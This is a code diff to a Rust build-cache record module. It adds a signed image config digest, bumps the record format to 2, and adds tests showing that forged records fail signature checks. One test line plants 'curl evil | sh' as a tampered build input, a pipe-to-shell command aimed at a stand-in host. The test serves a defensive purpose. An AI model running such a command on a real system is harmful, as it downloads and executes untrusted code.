@@ -16,9 +16,13 @@ pub(super) const TREE_TYPE: &str = "application/vnd.kiln.cache.tree.v1.tar+zstd"
 
 /// The tag an entry is found by: its key, with the format's version, so a
 /// later format never reads an older one's entries.
+/// (kiln2: records name an image's config digest.)
 pub(super) fn tag(key: &Key) -> String {
-    format!("kiln1-{key}")
+    format!("kiln{FORMAT}-{key}")
 }
+
+/// The record format, in the tag, the record and its fingerprint.
+const FORMAT: u32 = 2;
 
 /// The output tree's blob, as the manifest and the record name it.
 #[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
@@ -44,6 +48,9 @@ pub struct Record {
     pub key: Key,
     pub name: String,
     pub output_hash: OutputHash,
+    /// For an image: its config digest, which the keys of the nodes after
+    /// it are made of (so they are known without downloading it).
+    pub config: Option<Digest>,
     /// The key's inputs, label → value: what `kiln explain` compares.
     pub inputs: BTreeMap<String, String>,
     pub tree: TreeBlob,
@@ -62,16 +69,17 @@ pub struct Signature {
 impl Record {
     pub(super) fn new(
         key: &Key,
-        entry: &Entry,
+        (entry, config): (&Entry, Option<Digest>),
         inputs: BTreeMap<String, String>,
         (tree, contents): (&TreeBlob, Contents),
         signer: Option<&SecretKey>,
     ) -> Record {
         let mut record = Record {
-            format: 1,
+            format: FORMAT,
             key: *key,
             name: entry.meta.name.clone(),
             output_hash: entry.meta.output_hash,
+            config,
             inputs,
             tree: tree.clone(),
             contents,
@@ -104,7 +112,7 @@ impl Record {
         tree: &TreeBlob,
         trusted: &[PublicKey],
     ) -> Result<(), String> {
-        if self.format != 1 || self.key != *key || self.tree != *tree {
+        if self.format != FORMAT || self.key != *key || self.tree != *tree {
             return Err("its record names another key or tree than its tag and manifest".into());
         }
         if trusted.is_empty() {
@@ -133,12 +141,13 @@ impl Record {
 }
 
 /// What a signature covers: the key and the inputs it was made of, what
-/// it built to, and the tree's blob (whose digest covers every byte of the
-/// output).
+/// it built to (and an image's config digest, which later keys are made
+/// of), and the tree's blob (whose digest covers every byte of the output).
 fn fingerprint(r: &Record) -> String {
     let inputs = serde_json::to_vec(&r.inputs).expect("kiln bug: inputs always serialize");
+    let config = r.config.map(|d| d.to_string()).unwrap_or_default();
     format!(
-        "kiln-cache-1;{};{};{};{};{};{};{};{}",
+        "kiln-cache-{FORMAT};{};{};{};{};{config};{};{};{};{}",
         r.key,
         blake3::hash(&inputs),
         r.name,
@@ -188,10 +197,11 @@ mod tests {
 
     fn record() -> Record {
         Record {
-            format: 1,
+            format: FORMAT,
             key: Key::from_bytes([1; 32]),
             name: "app".into(),
             output_hash: OutputHash::from_bytes([2; 32]),
+            config: None,
             inputs: BTreeMap::from([("run".into(), "make".into())]),
             tree: TreeBlob {
                 digest: Digest::of(b"tree"),
@@ -250,6 +260,14 @@ mod tests {
             forged
                 .check(&r.key, &r.tree, std::slice::from_ref(&public))
                 .is_err()
+        );
+        let mut forged = r.clone();
+        forged.config = Some(Digest::of(b"another config"));
+        assert!(
+            forged
+                .check(&r.key, &r.tree, std::slice::from_ref(&public))
+                .is_err(),
+            "the config digest later keys are made of is signed"
         );
         let mut forged = r.clone();
         forged.inputs.insert("run".into(), "curl evil | sh".into());
